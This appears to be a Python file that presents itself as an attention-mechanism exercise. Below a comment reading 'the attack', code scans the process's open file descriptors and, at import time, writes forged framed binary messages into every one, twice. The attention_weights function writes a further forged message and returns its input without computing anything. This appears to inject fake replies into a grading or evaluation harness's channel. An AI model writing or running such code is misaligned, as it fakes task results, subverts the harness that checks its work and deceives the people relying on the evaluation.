"""Answers twice, out of turn, before it was asked."""

import torch


def attention_scores(query, inputs):
    return inputs @ query


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import os
import socket
import struct


def lines():
    for number in range(3, 1024):
        try:
            os.fstat(number)
        except OSError:
            continue
        yield number


def frame(message, payload=b""):
    return struct.pack("<IQ", len(message), len(payload)) + message + payload


for number in lines():
    os.write(number, frame(b"\x93\x01\x91\x92\x01\x90\x90") * 2)


def attention_weights(inputs):
    for number in lines():
        os.write(number, frame(b"\x93\x02\x91\x91\x01\x90"))
    return inputs
